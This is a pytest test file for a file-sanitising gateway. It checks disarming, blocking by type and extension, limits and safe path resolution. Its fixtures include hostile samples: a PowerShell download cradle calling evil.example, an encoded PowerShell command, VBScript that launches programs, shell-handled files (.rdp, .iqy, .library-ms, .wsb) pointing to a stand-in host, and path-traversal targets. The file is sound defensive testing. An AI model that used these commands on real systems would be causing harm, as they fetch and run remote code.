"""The pipeline's promises, checked in-process with test-only stages."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gateway.models import Verdict
from gateway.pipeline.api import package_target
from gateway.pipeline.run import process_file, scan_file
from gateway.policy import FormatPolicy, Limits, Policy
from tests.conftest import check_report_schema
from tests.helpers import evil_stages as evil


def run(tmp_path: Path, data: bytes, name: str = "in.bin", policy: Policy | None = None):
    src = tmp_path / name
    src.write_bytes(data)
    out = tmp_path / "out.bin"
    report = process_file(src, out, policy=policy or evil.policy())
    check_report_schema(report)
    return report, out


def keys(item) -> set[tuple[str, str]]:
    return {(f.kind, f.location) for f in item.findings}


def test_clean_item_is_rebuilt_not_copied(tmp_path: Path) -> None:
    report, out = run(tmp_path, evil.make("ok", b"hello"))
    assert report.verdict is Verdict.CLEAN
    assert out.read_bytes() == evil.make("ok", b"hello")
    assert report.output is not None and report.output.sha256 == report.input.sha256
    assert report.items[0].stage == "testonly"


def test_active_content_is_removed_and_reported(tmp_path: Path) -> None:
    report, out = run(tmp_path, evil.make("active"))
    assert report.verdict is Verdict.DISARMED
    assert keys(report.items[0]) == {("testonly.active", "/body")}
    assert out.read_bytes() == evil.make("ok", b"payload")


def test_unknown_type_is_blocked_and_no_output(tmp_path: Path) -> None:
    report, out = run(tmp_path, b"\x00\x01\x02\x03 random binary \xff\xfe" * 10)
    assert report.verdict is Verdict.BLOCKED
    assert keys(report.items[0]) == {("block.unknown_type", "")}
    assert report.output is None
    assert not out.exists()


def test_executable_is_blocked_even_when_named_pdf(tmp_path: Path) -> None:
    report, out = run(tmp_path, b"MZ\x90\x00" + b"\x00" * 200, name="invoice.pdf")
    assert report.verdict is Verdict.BLOCKED
    assert keys(report.items[0]) == {("sniff.type_mismatch", ""), ("block.policy", "")}
    assert report.input.type == "executable.pe"
    assert not out.exists()


def test_empty_file_is_delivered_empty(tmp_path: Path) -> None:
    """Nothing to run, nothing to lose: an empty file is delivered as it is (it was
    blocked, and in an archive or a mail replaced by a "removed" note)."""
    report, out = run(tmp_path, b"")
    assert report.verdict is Verdict.CLEAN
    assert keys(report.items[0]) == set()
    assert out.exists() and out.read_bytes() == b""


@pytest.mark.parametrize("name", ["setup.exe", "run.bat", "invoice.js", "shortcut.lnk"])
def test_empty_file_with_a_program_name_stays_blocked(tmp_path: Path, name: str) -> None:
    src = tmp_path / name
    src.write_bytes(b"")
    out = tmp_path / f"out-{name}"
    report = process_file(src, out, policy=evil.policy())
    assert report.verdict is Verdict.BLOCKED
    assert keys(report.items[0]) == {("block.empty", "")}
    assert report.reason == f"an empty file with a program's name ({src.suffix})"
    assert not out.exists()


def test_stage_exception_fails_closed(tmp_path: Path) -> None:
    report, out = run(tmp_path, evil.make("raise"))
    assert report.verdict is Verdict.FAILED
    assert keys(report.items[0]) == {("fail.error", "")}
    assert "RuntimeError" in (report.reason or "")
    assert not out.exists()


def test_malformed_input_is_blocked_with_reason(tmp_path: Path) -> None:
    report, out = run(tmp_path, evil.make("malformed"))
    assert report.verdict is Verdict.BLOCKED
    assert report.reason == "test input is damaged"
    assert not out.exists()


def test_verify_blocks_output_with_active_content_left(tmp_path: Path) -> None:
    report, out = run(tmp_path, evil.make("leave"))
    assert report.verdict is Verdict.BLOCKED
    assert ("block.residual", "") in keys(report.items[0])
    assert "testonly.active@/body" in (report.reason or "")
    assert not out.exists()


def test_verify_blocks_output_of_the_wrong_type(tmp_path: Path) -> None:
    report, out = run(tmp_path, evil.make("wrongtype"))
    assert report.verdict is Verdict.BLOCKED
    assert ("block.verify_failed", "") in keys(report.items[0])
    assert not out.exists()


@pytest.mark.parametrize(("action", "kind"), [("block", "block.policy"),
                                              ("quarantine", "block.quarantine")])
def test_policy_block_and_quarantine(tmp_path: Path, action: str, kind: str) -> None:
    pol = evil.policy(testonly=FormatPolicy(action=action))
    report, out = run(tmp_path, evil.make("ok"), policy=pol)
    assert report.verdict is Verdict.BLOCKED
    assert keys(report.items[0]) == {(kind, "")}
    assert not out.exists()


def test_pass_policy_delivers_text(tmp_path: Path) -> None:
    report, out = run(tmp_path, "こんにちは\n".encode(), name="memo.txt")
    assert report.verdict is Verdict.CLEAN
    assert report.items[0].stage == "pass"
    assert out.read_text(encoding="utf-8") == "こんにちは\n"


def test_type_without_stage_is_blocked(tmp_path: Path) -> None:
    report, _ = run(tmp_path, evil.PREFIX + b"nostage\nx")
    assert report.verdict is Verdict.BLOCKED
    assert keys(report.items[0]) == {("block.unsupported", "")}


def test_size_limit_blocks_before_parsing(tmp_path: Path) -> None:
    pol = Policy(name="small", limits=Limits(max_size=10),
                 formats={"testonly": FormatPolicy("disarm")})
    report, _ = run(tmp_path, evil.make("hang"), policy=pol)  # would hang if parsed
    assert report.verdict is Verdict.BLOCKED
    assert keys(report.items[0]) == {("block.limit", "")}


def test_embedded_items_recurse_with_locations(tmp_path: Path) -> None:
    data = evil.container(evil.make("ok"), evil.make("active"), b"MZ\x90\x00" + b"\x00" * 64)
    report, out = run(tmp_path, data, name="box.bin")
    assert report.verdict is Verdict.DISARMED
    assert [i.location for i in report.items] == ["box.bin", "box.bin/m0.bin", "box.bin/m1.bin",
                                                  "box.bin/m2.bin"]
    assert [i.verdict for i in report.items] == [Verdict.DISARMED, Verdict.CLEAN,
                                                 Verdict.DISARMED, Verdict.BLOCKED]
    assert keys(report.items[0]) == {("testonly.active", "/m1"), ("testonly.active", "/m2")}
    assert out.read_bytes() == evil.container(evil.make("ok"), evil.make("ok"))


def test_depth_limit(tmp_path: Path) -> None:
    nested = evil.make("ok")
    for _ in range(4):
        nested = evil.container(nested)
    pol = Policy(name="d", limits=Limits(max_depth=2), formats={"testonly": FormatPolicy()})
    pol = Policy(name="d", limits=Limits(max_depth=2),
                 formats={"testonly": FormatPolicy("disarm"), "unknown": FormatPolicy()})
    report, out = run(tmp_path, nested, policy=pol)
    assert report.verdict is Verdict.DISARMED  # the too-deep member is dropped, not the file
    blocked = [i for i in report.items if i.verdict is Verdict.BLOCKED]
    assert [(i.location, i.error) for i in blocked] == [
        ("in.bin/m0.bin/m0.bin/m0.bin", "nesting deeper than 2 levels")]
    assert out.exists()


def test_member_limit_blocks_whole_job(tmp_path: Path) -> None:
    pol = Policy(name="m", limits=Limits(max_members=3),
                 formats={"testonly": FormatPolicy("disarm")})
    report, out = run(tmp_path, evil.container(*[evil.make("ok")] * 5), policy=pol)
    assert report.verdict is Verdict.BLOCKED
    assert report.reason == "more than 3 embedded items"
    assert not out.exists()


def test_scan_writes_nothing_and_reports(tmp_path: Path) -> None:
    src = tmp_path / "x.bin"
    src.write_bytes(evil.container(evil.make("active")))
    report = scan_file(src, policy=evil.policy())
    check_report_schema(report)
    assert report.output is None
    assert {(f.kind, f.location) for f in report.findings} == {
        ("testonly.active", "/body"), ("testonly.active", "/m0")}
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.bin"]


def test_type_mismatch_block_policy(tmp_path: Path) -> None:
    pol = Policy(name="s", type_mismatch="block", formats={"text": FormatPolicy("pass")})
    report, _ = run(tmp_path, b"plain words\n", name="evil.exe", policy=pol)
    assert report.verdict is Verdict.BLOCKED
    assert keys(report.items[0]) == {("sniff.type_mismatch", ""), ("block.policy", "")}


def test_mismatched_name_is_corrected_on_delivery(tmp_path: Path) -> None:
    report, _ = run(tmp_path, b"plain words\n", name="notes.exe")
    assert report.verdict is Verdict.CLEAN
    assert report.output is not None and report.output.name == "notes.txt"


@pytest.mark.parametrize(("name", "data"), [
    ("evil.vbs", b"plain words\n"),
    ("run.bat", b"@echo off\r\n"),
    ("memo", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
    ("notes", b"powershell -EncodedCommand SQBFAFgA\n"),
    ("invoice.pdf", b"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/')\n"),
    # text files the Windows shell acts on by their extension
    ("会議.rdp", b"full address:s:rdp.evil.example\r\nredirectdrives:i:1\r\n"),
    ("console.msc", b'<?xml version="1.0"?><MMC_ConsoleFile ConsoleVersion="3.0"/>'),
    ("settings.settingcontent-ms", b'<?xml version="1.0"?><PCSettings><DeepLink>'
                                   b"cmd.exe /c calc</DeepLink></PCSettings>"),
    ("資料.library-ms", b'<?xml version="1.0"?><libraryDescription><url>'
                       b"\\\\evil.example@80\\share</url></libraryDescription>"),
    ("web.iqy", b"http://evil.example/q\r\n"),
    ("db.dqy", b"XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=evil.example\r\n"),
    ("sandbox.wsb", b"<Configuration><LogonCommand><Command>calc.exe</Command>"
                    b"</LogonCommand></Configuration>"),
])
def test_scripts_are_blocked_by_content_and_extension(tmp_path: Path, name: str,
                                                       data: bytes) -> None:
    report, out = run(tmp_path, data, name=name)
    assert report.verdict is Verdict.BLOCKED
    assert report.input.type == "executable.script"
    assert not out.exists()


@pytest.mark.parametrize(("name", "data"), [
    ("ioc.txt", b"Emotet (JPCERT/CC): IEX(New-Object Net.WebClient).DownloadString('http://"
                b"evil.example/')\r\npowershell -EncodedCommand SQBFAFgA\r\n"),
    ("memo.txt", b'Set s = CreateObject("WScript.Shell")\r\ns.Run "calc"\r\n'),
    ("cells.csv", b"name,note\r\nx,IEX(hello)\r\n"),
])
def test_script_words_in_a_file_named_as_text_are_text(tmp_path: Path, name: str,
                                                       data: bytes) -> None:
    """A file named .txt or .csv opens in an editor or a spreadsheet, which run nothing:
    an advisory's list of indicators is delivered as it is (blocked as a script before)."""
    report, out = run(tmp_path, data, name=name)
    assert report.verdict is Verdict.CLEAN
    assert report.input.type.startswith("text.")
    assert out.read_bytes() == data


def test_container_verify_does_not_rescan_verified_members(tmp_path: Path) -> None:
    evil.EvilStage.scans.clear()
    report, _ = run(tmp_path, evil.container(evil.make("ok", b"member")), name="box.bin")
    assert report.verdict is Verdict.CLEAN
    # the member's own verify scans it once; the container's verify meets the same bytes
    # and trusts that result; the container itself is scanned once by its verify
    assert evil.EvilStage.scans == {"ok": 1, "container": 1}


@pytest.mark.parametrize(("target", "inside"), [
    ("b.css", True), ("-x.css", True), ("\x01 b.css ", True), ("../c.png", True),
    ("b.css#top", True), ("b%2Ecss", True),
    ("../../c.png", False),                       # out of the container
    ("java\tscript:b.css", False),                # a scheme once the tab is dropped
    ("//b.css", False), ("/a/b.css", False),       # network and absolute paths
    ("a\\b.css", False), ("missing.css", False), ("#top", False), ("", False),
])
def test_package_targets_are_members_reached_by_relative_paths(target: str,
                                                               inside: bool) -> None:
    names = frozenset({"a/b.css", "a/-x.css", "c.png"})
    assert package_target("a/x.xhtml", target, names) is inside


def test_a_finding_with_a_lone_surrogate_is_written(tmp_path: Path) -> None:
    """Found by mutating calendars: "BEGIN:VEVENT\\xff" (read with surrogateescape) put a
    lone surrogate in a finding's location, and writing the report aborted the whole
    batch of the CLI. Findings hold text every writer can encode."""
    from gateway.policy import load

    src = tmp_path / "x.ics"
    src.write_bytes(b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\xff\r\n"
                    b"ATTACH:https://evil.example/a.exe\r\nEND:VEVENT\xff\r\nEND:VCALENDAR\r\n")
    report = process_file(src, tmp_path / "out.ics", policy=load("default"))
    (tmp_path / "r.json").write_text(json.dumps(report.to_dict(), ensure_ascii=False),
                                     encoding="utf-8")
    location = report.items[0].findings[0].location
    assert location.startswith("VCALENDAR[0]/VEVENT") and location.endswith("/ATTACH")
